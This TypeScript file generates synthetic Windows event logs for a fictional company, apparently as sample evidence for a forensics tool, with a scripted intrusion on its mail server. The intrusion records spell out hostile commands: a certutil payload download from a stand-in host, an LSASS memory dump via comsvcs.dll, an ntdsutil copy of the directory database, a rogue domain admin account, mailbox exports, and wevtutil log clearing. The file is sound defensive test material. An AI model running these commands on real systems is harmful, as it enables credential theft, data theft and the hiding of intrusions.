// The sample of `npm start`: a small enterprise over five working days, and in it an intrusion that begins at its mail
// server. Log records only. Every choice comes from the seed, so that the same seed writes the same bytes.
// Longer than other files because it is one story, told in order; it goes when the range of enterprises comes.
import { crc32 } from 'node:zlib';
import {
  type EventTemplates,
  eventRecord,
  eventTemplates,
  EvtxWriter,
  type TemplateSpec,
} from '../formats/evtx/index.js';
import { type EventKind, EVENTS, type FieldText, fieldValue } from './events.js';
import { random } from './random.js';

const DOMAIN = 'NORTHWOOD';
const SUFFIX = 'northwood.example';
const DOMAIN_SID = 'S-1-5-21-2881374001-1195540732-3017766155';
const DAY = 86_400e6;
/** Monday, 2 March 2026, 00:00 UTC. */
const START = Date.UTC(2026, 2, 2) * 1000;
const DAYS = 5;

interface Host {
  readonly name: string;
  readonly ip: string;
  readonly sysmon: boolean;
  readonly server: boolean;
}

interface User {
  readonly name: string;
  readonly sid: string;
  readonly host: Host;
}

interface Written {
  readonly micros: number;
  readonly order: number;
  readonly kind: EventKind;
  readonly fields: Readonly<Record<string, FieldText>>;
}

export interface SampleFile {
  readonly path: string;
  readonly records: number;
}

/** Writes the sample's evidence through `sink` (path relative to the sample, bytes, offset) and says what it wrote. */
export function writeSample(
  seed: number,
  sink: (path: string, bytes: Buffer, at: number) => void,
): { files: SampleFile[]; truth: string } {
  const r = random(seed);
  const hosts: Host[] = [
    { name: 'NW-DC01', ip: '10.20.1.10', sysmon: false, server: true },
    { name: 'NW-MAIL01', ip: '10.20.1.25', sysmon: true, server: true },
    { name: 'NW-FS01', ip: '10.20.1.40', sysmon: true, server: true },
    ...Array.from({ length: 5 }, (_, i): Host => ({
      name: `NW-WS${String(i + 11)}`,
      ip: `10.20.8.${30 + i}`,
      sysmon: true,
      server: false,
    })),
  ];
  const [dc, mail, fs] = hosts as [Host, Host, Host];
  const stations = hosts.slice(3);
  const people = ['a.berg', 'j.costa', 'l.novak', 'm.okafor', 's.tanaka'];
  const users: User[] = people.map((name, i) => ({ name, sid: `${DOMAIN_SID}-${1105 + i * 7}`, host: stations[i]! }));
  const admin = { name: 'adm.keller', sid: `${DOMAIN_SID}-1188` };
  const logs = new Map<string, Written[]>();
  let order = 0;
  const guid = (text: string): string => {
    const h = [0, 1, 2, 3].map((i) => (crc32(`${seed}|${i}|${text}`) >>> 0).toString(16).padStart(8, '0')).join('');
    return `{${h.slice(0, 8)}-${h.slice(8, 12)}-${h.slice(12, 16)}-${h.slice(16, 20)}-${h.slice(20, 32)}}`;
  };
  const emit = (host: Host, micros: number, kind: EventKind, fields: Readonly<Record<string, FieldText>>): void => {
    const key = `${host.name}\0${kind.spec.channel}`;
    const list = logs.get(key) ?? [];
    list.push({ micros: Math.floor(micros), order: order++, kind, fields });
    logs.set(key, list);
  };
  const utc = (micros: number): string => new Date(micros / 1000).toISOString().replace('T', ' ').replace('Z', '');
  const system = { SubjectUserSid: 'S-1-5-18', SubjectDomainName: DOMAIN, SubjectLogonId: 0x3e7 };

  let logonId = 0x40000;
  const logon = (
    host: Host,
    micros: number,
    who: { name: string; sid: string },
    type: number,
    from: Host | null,
    seconds: number,
  ): number => {
    const id = (logonId += 0x11 + r.below(0x400));
    emit(host, micros, EVENTS.logon, {
      ...system,
      SubjectUserName: `${host.name}$`,
      TargetUserSid: who.sid,
      TargetUserName: who.name,
      TargetDomainName: DOMAIN,
      TargetLogonId: id,
      LogonType: type,
      LogonProcessName: type === 3 ? 'Kerberos' : 'User32 ',
      AuthenticationPackageName: type === 3 ? 'Kerberos' : 'Negotiate',
      WorkstationName: type === 3 ? '-' : host.name,
      LogonGuid: guid(`l${id}`),
      KeyLength: 0,
      ProcessId: 0x2f4,
      ProcessName: type === 3 ? '-' : 'C:\\Windows\\System32\\svchost.exe',
      IpAddress: from === null ? '127.0.0.1' : from.ip,
      IpPort: from === null ? '0' : String(49152 + r.below(16000)),
    });
    emit(host, micros + seconds * 1e6, EVENTS.logoff, {
      TargetUserSid: who.sid,
      TargetUserName: who.name,
      TargetDomainName: DOMAIN,
      TargetLogonId: id,
      LogonType: type,
    });
    return id;
  };

  let pid = 2000;
  const folder = (image: string): string => image.slice(0, image.lastIndexOf('\\') + 1);
  const process = (
    host: Host,
    micros: number,
    user: string,
    id: number,
    image: string,
    command: string,
    parent: string,
    parentCommand: string,
    original = '',
  ): void => {
    const p = (pid += 4 * (1 + r.below(40)));
    if (host.sysmon)
      emit(host, micros, EVENTS.sysmonProcess, {
        RuleName: '-',
        UtcTime: utc(micros),
        ProcessGuid: guid(`p${p}`),
        ProcessId: p,
        Image: image,
        FileVersion: '10.0.20348.1',
        Description: '-',
        Product: '-',
        Company: '-',
        OriginalFileName: original === '' ? image.slice(folder(image).length) : original,
        CommandLine: command,
        CurrentDirectory: folder(image),
        User: user,
        LogonGuid: guid(`l${id}`),
        LogonId: id,
        TerminalSessionId: host.server ? 0 : 1,
        IntegrityLevel: user.startsWith('NT') ? 'System' : 'Medium',
        Hashes: `SHA256=${(crc32(image.toLowerCase()) >>> 0).toString(16).padStart(8, '0').repeat(8).toUpperCase()}`,
        ParentProcessGuid: guid(`pp${parent}`),
        ParentProcessId: 600 + (crc32(parent) % 4000),
        ParentImage: parent,
        ParentCommandLine: parentCommand,
        ParentUser: user,
      });
    else
      emit(host, micros, EVENTS.process, {
        ...system,
        SubjectUserName: user.split('\\').at(-1)!,
        SubjectLogonId: id,
        NewProcessId: p,
        NewProcessName: image,
        TokenElevationType: '%%1936',
        ProcessId: 600,
        CommandLine: command,
        TargetUserSid: 'S-1-0-0',
        TargetLogonId: 0,
        ParentProcessName: parent,
        MandatoryLabel: 'S-1-16-16384',
      });
  };

  // Everyday life.
  const S = 'C:\\Windows\\System32\\';
  const apps: readonly (readonly [string, string])[] = [
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', ''],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '/n "Q:\\Reports\\status.docx"'],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"Q:\\Finance\\plan.xlsx"'],
    ['C:\\Program Files\\Mozilla Firefox\\firefox.exe', '-osint -url https://intranet.northwood.example/'],
    [`${S}notepad.exe`, 'C:\\Users\\Public\\Documents\\notes.txt'],
    ['C:\\Program Files\\7-Zip\\7zFM.exe', ''],
  ];
  const services: readonly (readonly [string, string])[] = [
    [`${S}svchost.exe`, '-k netsvcs -p -s Schedule'],
    [`${S}taskhostw.exe`, ''],
    [`${S}backgroundTaskHost.exe`, '-ServerName:App.AppX'],
    [`${S}wbem\\WmiPrvSE.exe`, '-secured -Embedding'],
    [`${S}conhost.exe`, '0xffffffff -ForceV1'],
    [`${S}SearchProtocolHost.exe`, 'Global\\UsGthrFltPipeMssGthrPipe1_'],
  ];
  const names = [
    'intranet.northwood.example',
    'nw-mail01.northwood.example',
    'updates.vendor.example',
    'cdn.news.example',
    'login.saas.example',
    'weather.example',
  ];
  for (let day = 0; day < DAYS; day++) {
    const base = START + day * DAY;
    for (const host of hosts) {
      // Machines talk day and night: service state, scheduled work, the controller's tickets.
      const n = host.server ? 420 : 200;
      for (let i = 0; i < n; i++) {
        const t = base + r.next() * DAY;
        const [image, arguments_] = r.pick(services);
        process(
          host,
          t,
          'NT AUTHORITY\\SYSTEM',
          0x3e7,
          image,
          `${image} ${arguments_}`.trim(),
          `${S}services.exe`,
          `${S}services.exe`,
        );
        if (r.chance(0.3))
          emit(host, t + 5e5, EVENTS.serviceState, {
            param1: r.pick([
              'Windows Update',
              'Background Intelligent Transfer Service',
              'Windows Modules Installer',
              'Software Protection',
            ]),
            param2: r.pick(['running', 'stopped']),
          });
      }
    }
    // The backup account touches every server each night, and clears nothing.
    for (const host of [mail, fs, dc]) {
      const t = base + 2.6 * 3600e6 + r.next() * 600e6;
      logon(host, t, { name: 'svc-backup', sid: `${DOMAIN_SID}-1131` }, 3, fs, 900);
      for (let i = 0; i < 40; i++)
        emit(host, t + i * 9e6, EVENTS.shareFile, {
          SubjectUserSid: `${DOMAIN_SID}-1131`,
          SubjectUserName: 'svc-backup',
          SubjectDomainName: DOMAIN,
          SubjectLogonId: 0x51000 + i,
          ObjectType: 'File',
          IpAddress: fs.ip,
          IpPort: String(50000 + i),
          ShareName: '\\\\*\\D$',
          ShareLocalPath: '\\??\\D:\\',
          RelativeTargetName: `Data\\set${i}.dat`,
          AccessMask: 0x1,
          AccessList: '%%4416',
          AccessReason: '-',
        });
    }
    for (const user of users) {
      const arrive = base + (7 + r.next() * 1.6) * 3600e6;
      const id = logon(user.host, arrive, user, 2, null, 8.6 * 3600);
      emit(dc, arrive - 4e5, EVENTS.ticket, {
        TargetUserName: user.name,
        TargetDomainName: DOMAIN,
        TargetSid: user.sid,
        ServiceName: 'krbtgt',
        ServiceSid: `${DOMAIN_SID}-502`,
        TicketOptions: 0x40810010,
        Status: 0,
        TicketEncryptionType: 0x12,
        PreAuthType: '2',
        IpAddress: `::ffff:${user.host.ip}`,
        IpPort: String(49152 + r.below(16000)),
      });
      for (let i = 0; i < 130; i++) {
        const t = arrive + r.next() * 8.4 * 3600e6;
        const [image, arguments_] = r.pick(apps);
        if (r.chance(0.35))
          process(
            user.host,
            t,
            `${DOMAIN}\\${user.name}`,
            id,
            image,
            `"${image}" ${arguments_}`.trim(),
            'C:\\Windows\\explorer.exe',
            'C:\\Windows\\Explorer.EXE',
          );
        if (r.chance(0.6))
          emit(user.host, t + 2e5, EVENTS.sysmonDns, {
            RuleName: '-',
            UtcTime: utc(t),
            ProcessGuid: guid(`d${i}`),
            ProcessId: 4000 + i,
            QueryName: r.pick(names),
            QueryStatus: '0',
            QueryResults: '10.20.1.5;',
            Image: r.pick(apps)[0],
            User: `${DOMAIN}\\${user.name}`,
          });
        if (r.chance(0.5)) {
          const target = r.chance(0.5) ? fs : mail;
          logon(target, t + 1e6, user, 3, user.host, 30 + r.below(400));
          emit(dc, t + 8e5, EVENTS.serviceTicket, {
            TargetUserName: `${user.name}@${SUFFIX.toUpperCase()}`,
            TargetDomainName: SUFFIX.toUpperCase(),
            ServiceName: `${target.name}$`,
            ServiceSid: `${DOMAIN_SID}-1003`,
            TicketOptions: 0x40810000,
            TicketEncryptionType: 0x12,
            IpAddress: `::ffff:${user.host.ip}`,
            IpPort: String(49152 + r.below(16000)),
            Status: 0,
            LogonGuid: guid(`t${t}`),
            TransmittedServices: '-',
          });
          emit(target, t + 1.4e6, EVENTS.share, {
            SubjectUserSid: user.sid,
            SubjectUserName: user.name,
            SubjectDomainName: DOMAIN,
            SubjectLogonId: logonId,
            ObjectType: 'File',
            IpAddress: user.host.ip,
            IpPort: '50100',
            ShareName: '\\\\*\\Reports',
            ShareLocalPath: '\\??\\D:\\Reports',
            AccessMask: 0x1,
            AccessList: '%%4416',
          });
        }
        if (r.chance(0.25))
          emit(user.host, t + 3e5, EVENTS.sysmonNetwork, {
            RuleName: '-',
            UtcTime: utc(t),
            ProcessGuid: guid(`n${i}`),
            ProcessId: 4000 + i,
            Image: r.pick(apps)[0],
            User: `${DOMAIN}\\${user.name}`,
            Protocol: 'tcp',
            Initiated: true,
            SourceIsIpv6: false,
            SourceIp: user.host.ip,
            SourceHostname: `${user.host.name}.${SUFFIX}`,
            SourcePort: 49152 + r.below(16000),
            DestinationIsIpv6: false,
            DestinationIp: r.chance(0.5) ? mail.ip : '198.51.100.24',
            DestinationHostname: '-',
            DestinationPort: 443,
            DestinationPortName: 'https',
          });
        if (r.chance(0.03))
          emit(user.host, t, EVENTS.logonFailed, {
            ...system,
            SubjectUserName: `${user.host.name}$`,
            TargetUserSid: 'S-1-0-0',
            TargetUserName: user.name,
            TargetDomainName: DOMAIN,
            Status: 0xc000006d,
            FailureReason: '%%2313',
            SubStatus: 0xc000006a,
            LogonType: 2,
            LogonProcessName: 'User32 ',
            AuthenticationPackageName: 'Negotiate',
            WorkstationName: user.host.name,
            KeyLength: 0,
            ProcessId: 0x2f4,
            ProcessName: `${S}svchost.exe`,
            IpAddress: '127.0.0.1',
            IpPort: '0',
          });
      }
    }
    // The administrator's everyday work, with the same tools that intruders use.
    const t = base + 9.5 * 3600e6;
    const adminId = logon(mail, t, admin, 10, stations[4]!, 2400);
    emit(mail, t + 1e5, EVENTS.privileges, {
      SubjectUserSid: admin.sid,
      SubjectUserName: admin.name,
      SubjectDomainName: DOMAIN,
      SubjectLogonId: adminId,
      PrivilegeList: 'SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege',
    });
    process(
      mail,
      t + 60e6,
      `${DOMAIN}\\${admin.name}`,
      adminId,
      `${S}WindowsPowerShell\\v1.0\\powershell.exe`,
      'powershell.exe -File C:\\Scripts\\Get-QueueReport.ps1',
      'C:\\Windows\\explorer.exe',
      'C:\\Windows\\Explorer.EXE',
    );
    emit(mail, t + 62e6, EVENTS.scriptBlock, {
      MessageNumber: 1,
      MessageTotal: 1,
      ScriptBlockText: 'Get-Queue | Where-Object MessageCount -gt 50 | Export-Csv C:\\Scripts\\queues.csv',
      ScriptBlockId: guid(`sb${day}`),
      Path: 'C:\\Scripts\\Get-QueueReport.ps1',
    });
    emit(mail, t + 63e6, EVENTS.exchangeCmdlet, {
      '*': [
        'Get-Mailbox',
        '-ResultSize "Unlimited"',
        `${SUFFIX}/Users/${admin.name}`,
        '',
        '',
        '',
        'Remote-ManagementShell-Unknown',
        '2204',
        '',
        '',
        '',
      ],
    });
    emit(mail, t + 900e6, EVENTS.serviceInstalled, {
      ServiceName: `Vendor Agent ${day + 1}`,
      ImagePath: '"C:\\Program Files\\Vendor\\agent.exe"',
      ServiceType: 'user mode service',
      StartType: 'auto start',
      AccountName: 'LocalSystem',
    });
  }

  // The intrusion: Wednesday night, by way of the mail server.
  const pool = 'IIS APPPOOL\\MSExchangeOWAAppPool';
  const w3wp = `${S}inetsrv\\w3wp.exe`;
  const w3wpCommand = 'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "MSExchangeOWAAppPool"';
  let t = START + 2 * DAY + 1.31 * 3600e6;
  const cmd = (line: string, after: number): void => {
    t += after * 1e6;
    process(mail, t, pool, 0x71be3, `${S}cmd.exe`, `cmd.exe /c ${line}`, w3wp, w3wpCommand, 'Cmd.Exe');
  };
  cmd('whoami', 0);
  process(mail, t + 4e5, pool, 0x71be3, `${S}whoami.exe`, 'whoami', `${S}cmd.exe`, 'cmd.exe /c whoami');
  cmd('ipconfig /all', 41);
  emit(mail, t + 75e6, EVENTS.sysmonFile, {
    RuleName: '-',
    UtcTime: utc(t + 75e6),
    ProcessGuid: guid('w'),
    ProcessId: 5120,
    Image: w3wp,
    TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\errorpage.aspx',
    CreationUtcTime: utc(t + 75e6),
    User: pool,
  });
  cmd('net group "Domain Admins" /domain', 190);
  process(
    mail,
    t + 3e5,
    pool,
    0x71be3,
    `${S}net.exe`,
    'net group "Domain Admins" /domain',
    `${S}cmd.exe`,
    'cmd.exe /c net group "Domain Admins" /domain',
  );
  cmd('certutil -urlcache -split -f http://203.0.113.77/upd.txt C:\\ProgramData\\svchost.exe', 260);
  process(
    mail,
    t + 3e5,
    pool,
    0x71be3,
    `${S}certutil.exe`,
    'certutil -urlcache -split -f http://203.0.113.77/upd.txt C:\\ProgramData\\svchost.exe',
    `${S}cmd.exe`,
    'cmd.exe /c certutil',
    'CertUtil.exe',
  );
  t += 95e6;
  process(
    mail,
    t,
    'NT AUTHORITY\\SYSTEM',
    0x3e7,
    'C:\\ProgramData\\svchost.exe',
    'C:\\ProgramData\\svchost.exe',
    `${S}cmd.exe`,
    'cmd.exe',
  );
  for (let i = 0; i < 60; i++)
    emit(mail, t + i * 600e6 + r.next() * 40e6, EVENTS.sysmonNetwork, {
      RuleName: '-',
      UtcTime: utc(t + i * 600e6),
      ProcessGuid: guid('c2'),
      ProcessId: 6404,
      Image: 'C:\\ProgramData\\svchost.exe',
      User: 'NT AUTHORITY\\SYSTEM',
      Protocol: 'tcp',
      Initiated: true,
      SourceIsIpv6: false,
      SourceIp: mail.ip,
      SourceHostname: `${mail.name}.${SUFFIX}`,
      SourcePort: 49152 + r.below(16000),
      DestinationIsIpv6: false,
      DestinationIp: '203.0.113.77',
      DestinationHostname: '-',
      DestinationPort: 443,
      DestinationPortName: 'https',
    });
  t += 620e6;
  process(
    mail,
    t,
    'NT AUTHORITY\\SYSTEM',
    0x3e7,
    `${S}rundll32.exe`,
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\ProgramData\\d.tmp full',
    'C:\\ProgramData\\svchost.exe',
    'C:\\ProgramData\\svchost.exe',
    'RUNDLL32.EXE',
  );
  emit(mail, t + 2e5, EVENTS.sysmonAccess, {
    RuleName: '-',
    UtcTime: utc(t),
    SourceProcessGUID: guid('rd'),
    SourceProcessId: 7010,
    SourceThreadId: 7014,
    SourceImage: `${S}rundll32.exe`,
    TargetProcessGUID: guid('lsass'),
    TargetProcessId: 712,
    TargetImage: `${S}lsass.exe`,
    GrantedAccess: 0x1fffff,
    CallTrace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4',
    SourceUser: 'NT AUTHORITY\\SYSTEM',
    TargetUser: 'NT AUTHORITY\\SYSTEM',
  });
  // With the administrator's account to the controller and the file server.
  t += 2700e6;
  for (const target of [dc, fs]) {
    const id = logon(target, t, admin, 3, mail, 120);
    emit(target, t + 1e5, EVENTS.privileges, {
      SubjectUserSid: admin.sid,
      SubjectUserName: admin.name,
      SubjectDomainName: DOMAIN,
      SubjectLogonId: id,
      PrivilegeList: 'SeSecurityPrivilege',
    });
    emit(target, t + 6e5, EVENTS.shareFile, {
      SubjectUserSid: admin.sid,
      SubjectUserName: admin.name,
      SubjectDomainName: DOMAIN,
      SubjectLogonId: id,
      ObjectType: 'File',
      IpAddress: mail.ip,
      IpPort: '51944',
      ShareName: '\\\\*\\ADMIN$',
      ShareLocalPath: '\\??\\C:\\Windows',
      RelativeTargetName: 'Temp\\mscorsvc.exe',
      AccessMask: 0x2,
      AccessList: '%%4417',
      AccessReason: '-',
    });
    emit(target, t + 9e5, EVENTS.serviceInstalled, {
      ServiceName: 'Network Location Helper',
      ImagePath: 'C:\\Windows\\Temp\\mscorsvc.exe',
      ServiceType: 'user mode service',
      StartType: 'demand start',
      AccountName: 'LocalSystem',
    });
    process(
      target,
      t + 1.6e6,
      'NT AUTHORITY\\SYSTEM',
      0x3e7,
      'C:\\Windows\\Temp\\mscorsvc.exe',
      'C:\\Windows\\Temp\\mscorsvc.exe',
      `${S}services.exe`,
      `${S}services.exe`,
    );
    t += 1500e6;
  }
  process(
    dc,
    t,
    'NT AUTHORITY\\SYSTEM',
    0x3e7,
    `${S}ntdsutil.exe`,
    'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\a" q q',
    `${S}cmd.exe`,
    '',
  );
  emit(dc, t + 300e6, EVENTS.accountCreated, {
    TargetUserName: 'svc-monitor2',
    TargetDomainName: DOMAIN,
    TargetSid: `${DOMAIN_SID}-1290`,
    SubjectUserSid: admin.sid,
    SubjectUserName: admin.name,
    SubjectDomainName: DOMAIN,
    SubjectLogonId: 0x99aa1,
    PrivilegeList: '-',
    SamAccountName: 'svc-monitor2',
  });
  emit(dc, t + 330e6, EVENTS.memberAdded, {
    MemberName: `CN=svc-monitor2,CN=Users,DC=northwood,DC=example`,
    MemberSid: `${DOMAIN_SID}-1290`,
    TargetUserName: 'Domain Admins',
    TargetDomainName: DOMAIN,
    TargetSid: `${DOMAIN_SID}-512`,
    SubjectUserSid: admin.sid,
    SubjectUserName: admin.name,
    SubjectDomainName: DOMAIN,
    SubjectLogonId: 0x99aa1,
    PrivilegeList: '-',
  });
  emit(dc, t + 700e6, EVENTS.taskCreated, {
    SubjectUserSid: admin.sid,
    SubjectUserName: admin.name,
    SubjectDomainName: DOMAIN,
    SubjectLogonId: 0x99aa1,
    TaskName: '\\Microsoft\\Windows\\NetTrace\\Gather',
    TaskContent:
      '<Task><Actions><Exec><Command>cmd.exe</Command><Arguments>/c C:\\Windows\\Temp\\mscorsvc.exe -s</Arguments></Exec></Actions></Task>',
  });
  // The next night: mail, files, and traces.
  t = START + 3 * DAY + 1.8 * 3600e6;
  for (const [i, box] of ['director', 'cfo', 'legal'].entries())
    emit(mail, t + i * 240e6, EVENTS.exchangeCmdlet, {
      '*': [
        'New-MailboxExportRequest',
        `-Mailbox "${box}" -FilePath "\\\\127.0.0.1\\C$\\ProgramData\\${box}.pst"`,
        `${SUFFIX}/Users/svc-monitor2`,
        '',
        '',
        '',
        'Remote-ManagementShell-Unknown',
        '4311',
        '',
        '',
        '',
      ],
    });
  t += 5400e6;
  process(
    mail,
    t,
    `${DOMAIN}\\svc-monitor2`,
    0xa11c2,
    'C:\\ProgramData\\r.exe',
    'r.exe a -hpq81 -v400m C:\\inetpub\\wwwroot\\aspnet_client\\logo.png C:\\ProgramData\\*.pst',
    `${S}cmd.exe`,
    'cmd.exe',
    'Rar.exe',
  );
  for (const [i, box] of ['director', 'cfo', 'legal'].entries())
    emit(mail, t + 1800e6 + i * 20e6, EVENTS.exchangeCmdlet, {
      '*': [
        'Remove-MailboxExportRequest',
        `-Identity "${box}\\MailboxExport"`,
        `${SUFFIX}/Users/svc-monitor2`,
        '',
        '',
        '',
        'Remote-ManagementShell-Unknown',
        '4311',
        '',
        '',
        '',
      ],
    });
  const cleared = t + 2400e6;
  process(
    mail,
    cleared - 2e6,
    `${DOMAIN}\\svc-monitor2`,
    0xa11c2,
    `${S}wevtutil.exe`,
    'wevtutil cl Security',
    `${S}cmd.exe`,
    'cmd.exe',
  );
  const gap = { host: fs.name, from: START + 2 * DAY + 2 * 3600e6, to: START + 2 * DAY + 3.4 * 3600e6 };

  // Logs to files. The mail server's Security log was cleared: it begins with the record that says so.
  const files: SampleFile[] = [];
  const outerOf = new Map<string, TemplateSpec>();
  const templates = new Map<EventKind, EventTemplates>();
  for (const key of [...logs.keys()].sort()) {
    const [name, channel] = key.split('\0') as [string, string];
    const host = hosts.find((h) => h.name === name)!;
    let list = logs.get(key)!.sort((a, b) => a.micros - b.micros || a.order - b.order);
    if (name === mail.name && channel === 'Security') {
      list = list.filter((w) => w.micros > cleared);
      list.unshift({
        micros: cleared,
        order: -1,
        kind: EVENTS.securityCleared,
        fields: {
          SubjectUserSid: `${DOMAIN_SID}-1290`,
          SubjectUserName: 'svc-monitor2',
          SubjectDomainName: DOMAIN,
          SubjectLogonId: 0xa11c2,
        },
      });
    }
    const path = `evidence/${name}/${channel.replaceAll('/', '%4')}.evtx`;
    const writer = new EvtxWriter({ sink: (bytes, at) => sink(path, bytes, at) });
    const computer = `${name}.${SUFFIX}`;
    let id = 1000 + (crc32(key) % 400_000);
    let written = 0;
    for (const w of list) {
      id++;
      // Records taken out of the file server's log: their numbers are missing.
      if (name === gap.host && channel === 'Security' && w.micros > gap.from && w.micros < gap.to) continue;
      let tpl = templates.get(w.kind);
      if (tpl === undefined) {
        tpl = eventTemplates(w.kind.spec, outerOf);
        templates.set(w.kind, tpl);
      }
      const data = w.kind.names.map((n, i) => fieldValue(w.kind.types[i]!, w.fields[n]));
      writer.write(
        eventRecord(tpl, {
          recordId: id,
          micros: w.micros,
          computer,
          processId: host.server ? 744 : 812,
          threadId: 1000 + (w.order % 900),
          data,
        }),
      );
      written++;
    }
    writer.finish();
    files.push({ path, records: written });
  }
  const truth = `# What happened in this sample

Made by Backtrail's own generator (seed ${seed}); no real organisation, person or address is meant.

- 2026-03-04 01:18 UTC: the mail server ${mail.name} is broken into; its web worker starts shells, a script file appears below the web root, a program is fetched and run as C:\\ProgramData\\svchost.exe.
- 01:38: the memory of LSASS is dumped; the account ${DOMAIN}\\${admin.name} is in the intruder's hands.
- 02:23 and 02:48: ${dc.name} and ${fs.name} are reached with it by service; on the controller (03:13) the directory database is copied, the account svc-monitor2 is made a domain administrator, a task is planted.
- 2026-03-05 01:48: the mailboxes of director, cfo and legal are exported, packed, the requests removed, and at 03:58 the Security log of ${mail.name} is cleared.
- Records of ${gap.host}'s Security log between 2026-03-04 02:00 and 03:24 UTC were taken out.
`;
  return { files, truth };
}
